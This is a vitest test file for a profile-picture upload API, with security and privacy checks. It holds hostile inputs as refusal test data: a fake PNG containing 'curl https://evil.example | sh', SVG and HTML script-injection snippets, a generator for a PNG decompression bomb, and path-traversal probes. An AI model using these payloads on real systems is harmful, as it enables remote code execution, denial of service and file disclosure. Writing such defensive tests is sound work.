import { mkdtempSync, readdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import { ID_MAX } from '@tradelist/contract/fields';
import { PROFILE_PICTURE_MAX_BYTES } from '@tradelist/contract/profile';
import sharp from 'sharp';
import { describe, expect, test } from 'vitest';
import { setUpApiTest } from '../../../../test/support/api-test.ts';
import { clientFor, createCatalogFixture, type CatalogFixture } from '../../../../test/support/catalog.ts';
import type { TestApp, TestClient } from '../../../../test/support/test-app.ts';
import { tooManyPixelsMessage, unsupportedPictureMessage } from '../services/picture-image.ts';
import { pictureTooLargeMessage } from '../routes.ts';

const dataDir = mkdtempSync(path.join(tmpdir(), 'tradelist-profile-'));
let t: TestApp;
let fixture: CatalogFixture;
setUpApiTest({ env: { DATA_DIR: dataDir } }, async (setup) => {
  ({ t } = setup);
  fixture = await createCatalogFixture(t);
});

async function member(label: string): Promise<{ client: TestClient; id: number }> {
  const { client, userId } = await clientFor(t, fixture, 'free', label);
  return { client, id: userId! };
}

/** A multipart/form-data body with one file, as a browser's FormData sends it. */
function multipart(bytes: Buffer, options: { field?: string; filename?: string; type?: string } = {}) {
  const boundary = '----tradelist-test-boundary';
  const head = Buffer.from(
    `--${boundary}\r\nContent-Disposition: form-data; name="${options.field ?? 'profile_image'}"; filename="${options.filename ?? 'me.png'}"\r\n` +
      `Content-Type: ${options.type ?? 'image/png'}\r\n\r\n`,
  );
  const body = Buffer.concat([head, bytes, Buffer.from(`\r\n--${boundary}--\r\n`)]);
  return { body, headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

function upload(client: TestClient, id: number, bytes: Buffer, options?: Parameters<typeof multipart>[1]) {
  return client.request('POST', `/api/users/${id}/update-profile/`, multipart(bytes, options));
}

/** The names of the stored pictures (in the upload store, decision 0035). */
async function storedFiles(): Promise<string[]> {
  const rows = await t.database.db.selectFrom('uploaded_files').select('key').where('key', 'like', 'profile-pictures/%').orderBy('key').execute();
  return rows.map((row) => row.key.slice('profile-pictures/'.length));
}
const fileOf = (url: string) => url.split('/').pop()!;

/** A photo-like JPEG carrying EXIF with a camera, a copyright and a GPS position. */
function jpegWithExif(): Promise<Buffer> {
  return sharp({ create: { width: 640, height: 480, channels: 3, background: { r: 200, g: 120, b: 40 } } })
    .withExif({ IFD0: { Make: 'Tradelist Test Camera', Copyright: 'private' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '45/1 30/1 0/1' } })
    .jpeg()
    .toBuffer();
}

function pngWithExif(): Promise<Buffer> {
  return sharp({ create: { width: 300, height: 500, channels: 4, background: { r: 20, g: 90, b: 200, alpha: 1 } } })
    .withExif({ IFD0: { Artist: 'someone private' } })
    .png()
    .toBuffer();
}

/** A valid PNG header declaring 10,000 × 10,000 pixels (1 bit each), all zero: a few kilobytes that expand to 100 megapixels. */
function decompressionBombPng(): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const typed = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(typed));
    return Buffer.concat([length, typed, crc]);
  };
  const side = 10_000;
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([1, 0, 0, 0, 0], 8); // bit depth 1, greyscale
  const rows = Buffer.alloc((1 + side / 8) * side); // filter byte 0 and zero pixels, row after row
  return Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), chunk('IHDR', header), chunk('IDAT', deflateSync(rows, { level: 9 })), chunk('IEND', Buffer.alloc(0))]);
}

describe('profile picture uploads (product §11.13)', () => {
  test('a JPEG and a PNG are accepted and stored as 256×256 WebP without EXIF or GPS, served with a long cache and nosniff', async () => {
    const { client, id } = await member('picture-ok');
    for (const original of [await jpegWithExif(), await pngWithExif()]) {
      expect((await sharp(original).metadata()).exif).toBeDefined();
      const response = await upload(client, id, original, { filename: 'holiday.jpg', type: 'image/jpeg' });
      expect(response.statusCode, response.body).toBe(200);
      const url = response.json().profile_picture_url as string;
      expect(url).toMatch(/^\/media\/profile-pictures\/[0-9a-f]{32}\.webp$/);
      expect(url).not.toContain('holiday');

      const served = await client.get(url);
      expect(served.statusCode).toBe(200);
      expect(served.headers['content-type']).toBe('image/webp');
      expect(served.headers['x-content-type-options']).toBe('nosniff');
      expect(served.headers['cache-control']).toBe('public, max-age=31536000, immutable');
      expect(served.headers['content-security-policy']).toBe("default-src 'none'");
      const stored = await sharp(served.rawPayload).metadata();
      expect(stored).toMatchObject({ format: 'webp', width: 256, height: 256 });
      expect(stored.exif).toBeUndefined();
      expect(stored.xmp).toBeUndefined();
      expect(stored.icc).toBeUndefined();
      expect(served.rawPayload.includes(Buffer.from('Tradelist Test Camera'))).toBe(false);

      const read = await client.get(`/api/users/${id}/profile-picture/`);
      expect(read.json()).toEqual({ profile_picture_url: url });
    }
  });

  test('without a picture the answer is null (the client shows the default image)', async () => {
    const { client, id } = await member('picture-none');
    const response = await client.get(`/api/users/${id}/profile-picture/`);
    expect(response.statusCode).toBe(200);
    expect(response.json()).toEqual({ profile_picture_url: null });
  });

  test('SVG, a script named .png and a PDF are refused by their content with a field error; nothing is stored', async () => {
    const { client, id } = await member('picture-bad');
    const before = (await storedFiles()).length;
    const refused = [
      { bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>'), filename: 'me.svg', type: 'image/svg+xml' },
      { bytes: Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'), filename: 'me.png', type: 'image/png' },
      { bytes: Buffer.from('<html><script>alert(1)</script></html>'), filename: 'me.png', type: 'image/png' },
      { bytes: Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n'), filename: 'me.jpg', type: 'image/jpeg' },
    ];
    for (const { bytes, filename, type } of refused) {
      const response = await upload(client, id, bytes, { filename, type });
      expect(response.statusCode, filename).toBe(400);
      expect(response.json()).toMatchObject({ code: 'VALIDATION_FAILED', fields: { profile_image: [unsupportedPictureMessage] } });
    }
    // A real PNG signature with a broken body is read, fails, and is refused the same way.
    const broken = await upload(client, id, Buffer.concat([(await pngWithExif()).subarray(0, 40), Buffer.alloc(200, 7)]));
    expect(broken.statusCode).toBe(400);
    expect(Object.keys(broken.json().fields)).toEqual(['profile_image']);
    expect((await storedFiles()).length).toBe(before);
    expect((await client.get(`/api/users/${id}/profile-picture/`)).json()).toEqual({ profile_picture_url: null });
  });

  test('a 100-megapixel PNG of a few kilobytes is refused from its header, before decoding', async () => {
    const { client, id } = await member('picture-bomb');
    const bomb = decompressionBombPng();
    expect(bomb.length).toBeLessThan(20_000);
    const response = await upload(client, id, bomb);
    expect(response.statusCode).toBe(400);
    // This message comes only from the header check; the decoder's own pixel limit would say the image cannot be read.
    expect(response.json().fields).toEqual({ profile_image: [tooManyPixelsMessage] });
  });

  test('more than 5 MB is refused with 413, whether the length is declared or found while reading', async () => {
    const { client, id } = await member('picture-big');
    const before = (await storedFiles()).length;
    const sixMegabytes = Buffer.concat([(await pngWithExif()).subarray(0, 33), Buffer.alloc(6 * 1024 * 1024, 1)]);
    const declared = await upload(client, id, sixMegabytes);
    expect(declared.statusCode).toBe(413);
    expect(declared.json()).toMatchObject({ code: 'PAYLOAD_TOO_LARGE', error: pictureTooLargeMessage });
    const justOver = await upload(client, id, Buffer.alloc(PROFILE_PICTURE_MAX_BYTES + 1, 1));
    expect(justOver.statusCode).toBe(413);
    expect(justOver.json()).toMatchObject({ code: 'PAYLOAD_TOO_LARGE', error: pictureTooLargeMessage });
    expect((await storedFiles()).length).toBe(before);
  });

  test('a JSON body or a form without profile_image is refused', async () => {
    const { client, id } = await member('picture-form');
    const json = await client.post(`/api/users/${id}/update-profile/`, { profile_image: 'data:image/png;base64,AAAA' });
    expect(json.statusCode).toBe(415);
    const wrongField = await upload(client, id, await pngWithExif(), { field: 'avatar' });
    expect(wrongField.statusCode).toBe(400);
    expect(Object.keys(wrongField.json().fields)).toEqual(['profile_image']);
  });

  test('no other call reads multipart: a form sent to another call is a 415 and stores nothing', async () => {
    const { client, id } = await member('picture-elsewhere');
    const form = multipart(Buffer.from('x'), { field: 'inventory_option' });
    const response = await client.request('POST', '/api/user_factor/', form);
    expect(response.statusCode).toBe(415);
    expect(response.json().code).toBe('UNSUPPORTED_MEDIA_TYPE');
    const factor = await t.database.db.selectFrom('user_factors').select('user_id').where('user_id', '=', id).executeTakeFirst();
    expect(factor).toBeUndefined();
  });

  test('a new upload replaces the old file; removing deletes the file and the old URL stops answering', async () => {
    const { client, id } = await member('picture-replace');
    const first = (await upload(client, id, await pngWithExif())).json().profile_picture_url as string;
    expect(await storedFiles()).toContain(fileOf(first));
    const second = (await upload(client, id, await jpegWithExif())).json().profile_picture_url as string;
    expect(second).not.toBe(first);
    expect(await storedFiles()).toContain(fileOf(second));
    expect(await storedFiles()).not.toContain(fileOf(first));
    expect((await client.get(first)).statusCode).toBe(404);

    const removed = await client.request('DELETE', `/api/users/${id}/delete-profile-picture/`);
    expect(removed.statusCode).toBe(200);
    expect(removed.json()).toEqual({ profile_picture_url: null });
    expect(await storedFiles()).not.toContain(fileOf(second));
    expect((await client.get(second)).statusCode).toBe(404);
    expect((await client.get(`/api/users/${id}/profile-picture/`)).json()).toEqual({ profile_picture_url: null });
    // Removing again is harmless.
    expect((await client.request('DELETE', `/api/users/${id}/delete-profile-picture/`)).statusCode).toBe(200);
  });

  test("another user's id, existing or not, answers 403 and changes nothing (product §11.8)", async () => {
    const owner = await member('picture-owner');
    const intruder = await member('picture-intruder');
    const url = (await upload(owner.client, owner.id, await pngWithExif())).json().profile_picture_url as string;
    const files = await storedFiles();
    for (const targetId of [owner.id, ID_MAX]) {
      const read = await intruder.client.get(`/api/users/${targetId}/profile-picture/`);
      const replace = await upload(intruder.client, targetId, await jpegWithExif());
      const remove = await intruder.client.request('DELETE', `/api/users/${targetId}/delete-profile-picture/`);
      for (const response of [read, replace, remove]) {
        expect(response.statusCode).toBe(403);
        expect(response.json().code).toBe('FORBIDDEN');
        expect(response.body).not.toContain(url);
      }
    }
    expect(await storedFiles()).toEqual(files);
    expect((await owner.client.get(`/api/users/${owner.id}/profile-picture/`)).json()).toEqual({ profile_picture_url: url });
  });

  test('nothing is written under DATA_DIR: pictures live in the database', async () => {
    const { client, id } = await member('picture-no-disk');
    expect((await upload(client, id, await pngWithExif())).statusCode).toBe(200);
    expect(readdirSync(dataDir)).toEqual([]);
  });

  test('the picture route serves only stored names: anything else is a 404', async () => {
    const { client } = await member('picture-route');
    for (const probe of ['/media/profile-pictures/../../package.json', '/media/profile-pictures/%2e%2e%2fpackage.json', '/media/profile-pictures/0123456789abcdef0123456789abcdef.png', '/media/profile-pictures/']) {
      expect((await client.get(probe)).statusCode, probe).toBe(404);
    }
  });
});
